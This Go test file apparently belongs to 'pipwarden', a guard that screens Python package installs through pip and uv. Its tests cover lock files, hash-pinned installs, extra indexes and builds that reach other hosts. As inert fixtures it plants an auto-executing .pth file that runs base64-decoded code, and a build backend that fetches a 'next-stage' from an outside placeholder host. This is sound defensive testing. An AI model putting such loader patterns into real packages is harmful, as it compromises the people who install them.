package main

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"pipwarden/internal/pypitest"
)

// egressProject is a folder with a project that needs demo and dep.
func egressProject(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	write(t, filepath.Join(dir, "pyproject.toml"), `[project]
name = "app"
version = "1.0"
requires-python = ">=3.8"
dependencies = ["demo", "dep"]

[[tool.uv.index]]
url = "https://index.invalid/simple/"
default = true
`)
	return dir
}

// uvIn runs uv in a folder, with a home of its own.
func uvIn(t *testing.T, dir string, args ...string) *exec.Cmd {
	t.Helper()
	uv, err := exec.LookPath("uv")
	if err != nil {
		t.Skip("no uv on this machine")
	}
	ctx, cancel := context.WithTimeout(t.Context(), 5*time.Minute)
	t.Cleanup(cancel)
	cmd := exec.CommandContext(ctx, uv, args...)
	cmd.Dir = dir
	home := t.TempDir()
	cmd.Env = cleanEnv("HOME="+home, "UV_CACHE_DIR="+filepath.Join(home, "uv"), "UV_PYTHON_DOWNLOADS=never")
	return cmd
}

// TestEgressLockFile: a lock file made through the guard is that made without it, byte for byte; and an install by it, which reads no
// page, is judged.
func TestEgressLockFile(t *testing.T) {
	n, x := newNetwork(t), pypitest.NewIndex(t, pypitest.Options{})
	x.Add(pypitest.Wheel("pip", "1.0"))
	x.Add(wheel("demo/__init__.py", "answer = 42\n"))
	x.Add(pypitest.Sdist("demo", "1.0"))
	x.Add(pypitest.Wheel("dep", "2.0"))
	n.index(x, "https")
	plain := egressProject(t)
	lock := uvIn(t, plain, "lock")
	lock.Env = append(lock.Env, "HTTPS_PROXY="+n.proxy, "SSL_CERT_FILE="+n.ca, "NO_PROXY=")
	if stdout, stderr, code := run(t, lock); code != 0 {
		t.Fatalf("uv lock without the guard: exit %d\n%s%s", code, stdout, stderr)
	}
	store := t.TempDir()
	s := serve(t, store, n.config("https", ""))
	dir := egressProject(t)
	lock = uvIn(t, dir, "lock")
	through(lock, s)
	if stdout, stderr, code := run(t, lock); code != 0 {
		t.Fatalf("uv lock: exit %d\n%s%s", code, stdout, stderr)
	}
	want, got := read(t, filepath.Join(plain, "uv.lock")), read(t, filepath.Join(dir, "uv.lock"))
	if want != got || !strings.Contains(got, "https://files.invalid/") {
		t.Errorf("without the guard:\n%s\nthrough it:\n%s", want, got)
	}
	sync := uvIn(t, dir, "sync", "--frozen", "--no-install-project")
	through(sync, s)
	if stdout, stderr, code := run(t, sync); code != 0 || !strings.Contains(stdout+stderr, "demo==1.0") {
		t.Errorf("uv sync --frozen: exit %d\n%s%s", code, stdout, stderr)
	}
	// Another guard, with nothing in memory, refuses one of the files.
	second := serve(t, t.TempDir(), n.config("https", "[policy]\ndenylist = [\"demo\"]\n"))
	sync = uvIn(t, dir, "sync", "--frozen", "--no-install-project", "--reinstall")
	through(sync, second)
	if stdout, stderr, code := run(t, sync); code == 0 || !strings.Contains(stdout+stderr, "denylist") {
		t.Errorf("uv sync --frozen of what is denied: exit %d\n%s%s", code, stdout, stderr)
	}
}

// TestEgressRequireHashes: pip by a file of addresses and hashes.
func TestEgressRequireHashes(t *testing.T) {
	n, x := newNetwork(t), pypitest.NewIndex(t, pypitest.Options{})
	x.Add(pypitest.Wheel("pip", "1.0"))
	good := x.Add(wheel())
	d := wheel("demo.pth", "import base64; exec(base64.b64decode('cGFzcw=='))\n")
	d.Name, d.Version, d.Filename = "hostile", "1.0", "hostile-1.0-py2.py3-none-any.whl"
	bad := x.Add(d)
	n.index(x, "https")
	s := serve(t, t.TempDir(), n.config("https", ""))
	for _, c := range clients(t) {
		for _, f := range []*pypitest.File{good, bad} {
			lock := filepath.Join(t.TempDir(), "lock.txt")
			write(t, lock, fmt.Sprintf("https://files.invalid%s --hash=sha256:%s\n", f.Path, f.SHA256))
			cmd, _ := c.install(t, "https://index.invalid", "--no-deps", "--require-hashes", "-r", lock)
			through(cmd, s)
			stdout, stderr, code := run(t, cmd)
			if (code == 0) != (f == good) || f == bad && !strings.Contains(unwrap(stdout+stderr), "Blocked by pipwarden: hostile 1.0") {
				t.Errorf("%s, %s: exit %d\n%s%s", c.name, f.Filename, code, stdout, stderr)
			}
		}
	}
}

// TestEgressFurtherIndex: a further index on the client's command line is judged where the guard knows it, and refused by name where
// other hosts are.
func TestEgressFurtherIndex(t *testing.T) {
	for _, known := range []bool{true, false} {
		n, x, extra := newNetwork(t), pypitest.NewIndex(t, pypitest.Options{}), pypitest.NewIndex(t, pypitest.Options{})
		x.Add(pypitest.Wheel("pip", "1.0"))
		x.Add(wheel())
		newer := wheel("demo.pth", "import base64; exec(base64.b64decode('cGFzcw=='))\n")
		newer.Version, newer.Filename = "2.0", "demo-2.0-py2.py3-none-any.whl"
		f := extra.Add(newer)
		extra.Update(func() { f.URL = "https://extra.invalid" + f.Path })
		n.index(x, "https")
		n.handle("extra.invalid", extra)
		config := n.config("https", "[egress]\nenabled = true\nother = \"refuse\"\n")
		says := "Blocked by pipwarden: host extra.invalid:443 is not guarded"
		if known {
			says = "Blocked by pipwarden: demo 2.0"
			config = strings.Replace(config, "index_url = \"https://index.invalid/simple/\"\n", "", 1) +
				"[[upstream.index]]\nname = \"main\"\nurl = \"https://index.invalid/simple/\"\n[[upstream.index]]\nname = \"extra\"\nurl = \"https://extra.invalid/simple/\"\n"
		}
		s := serve(t, t.TempDir(), config)
		for _, c := range clients(t) {
			args := []string{"--extra-index-url", "https://extra.invalid/simple/", "demo"}
			if c.uv {
				args = append(args, "--index-strategy", "unsafe-best-match")
			}
			cmd, target := c.install(t, "https://index.invalid", args...)
			cmd.Env = append(cmd.Env, "PIP_RETRIES=1", "UV_HTTP_RETRIES=0")
			through(cmd, s)
			stdout, stderr, code := run(t, cmd)
			screen := unwrap(stdout + stderr)
			if _, err := os.Stat(filepath.Join(target, "demo.pth")); err == nil || known && code == 0 {
				t.Errorf("known %t, %s: exit %d, installed it\n%s", known, c.name, code, screen)
			}
			if known && !strings.Contains(screen, says) {
				t.Errorf("%s does not show %q:\n%s", c.name, says, screen)
			}
		}
		if !known && (!strings.Contains(s.text(), "host=extra.invalid:443") || extra.Count("") != 0) {
			t.Errorf("the further index was asked %d times; the log:\n%s", extra.Count(""), s.text())
		}
	}
}

// TestEgressBuildThatFetches: a build whose code fetches from another host fails with that host named, while what the build itself
// needs comes through the gate. The code is inert: nothing answers there but the test.
func TestEgressBuildThatFetches(t *testing.T) {
	n, x := newNetwork(t), pypitest.NewIndex(t, pypitest.Options{})
	x.Add(pypitest.Wheel("pip", "1.0"))
	helper := pypitest.Wheel("buildhelp", "1.0", "buildhelp.py", "import base64\n")
	x.Add(helper)
	backend := `import os, sys, urllib.request, zipfile
import buildhelp
def build_wheel(directory, config_settings=None, metadata_directory=None):
    urllib.request.urlopen("https://elsewhere.invalid/next-stage").read()
    name = "demo-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(directory, name), "w") as z:
        z.writestr("demo.py", "")
        z.writestr("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n")
        z.writestr("demo-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        z.writestr("demo-1.0.dist-info/RECORD", "")
    return name
`
	x.Add(pypitest.Sdist("demo", "1.0", "pyproject.toml", "[build-system]\nrequires = [\"buildhelp\"]\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n", "backend.py", backend))
	n.index(x, "https")
	for _, allowed := range []bool{false, true} {
		config := "[policy]\nmode = \"audit\"\n[egress]\nenabled = true\nother = \"refuse\"\n"
		if allowed {
			config += "allow = [\"elsewhere.invalid\"]\n"
		}
		s := serve(t, t.TempDir(), n.config("https", config))
		for _, c := range newest(clients(t)) {
			cmd, _ := c.install(t, "https://index.invalid", "demo")
			// What is allowed is not intercepted: the build has to trust the network's own authority.
			bundle := filepath.Join(t.TempDir(), "bundle.pem")
			write(t, bundle, read(t, s.ca("bundle.pem"))+read(t, n.ca))
			through(cmd, s)
			cmd.Env = append(cmd.Env, "SSL_CERT_FILE="+bundle)
			stdout, stderr, code := run(t, cmd)
			screen := unwrap(stdout + stderr)
			if !allowed && (code == 0 || !strings.Contains(screen, "elsewhere.invalid")) {
				t.Errorf("%s: exit %d\n%s", c.name, code, screen)
			}
			if !strings.Contains(s.text(), "buildhelp-1.0") {
				t.Errorf("%s: what the build needs did not pass the gate\n%s\n%s", c.name, screen, s.text())
			}
		}
		if reached := n.reached("CONNECT elsewhere.invalid:443"); reached != allowed {
			t.Errorf("allowed %t: the other host was reached: %t\n%s", allowed, reached, s.text())
		}
	}
}

// newest are the newest pip and uv.
func newest(all []client) []client {
	if len(all) > 2 || len(all) == 2 && !all[1].uv {
		return all[1:]
	}
	return all
}
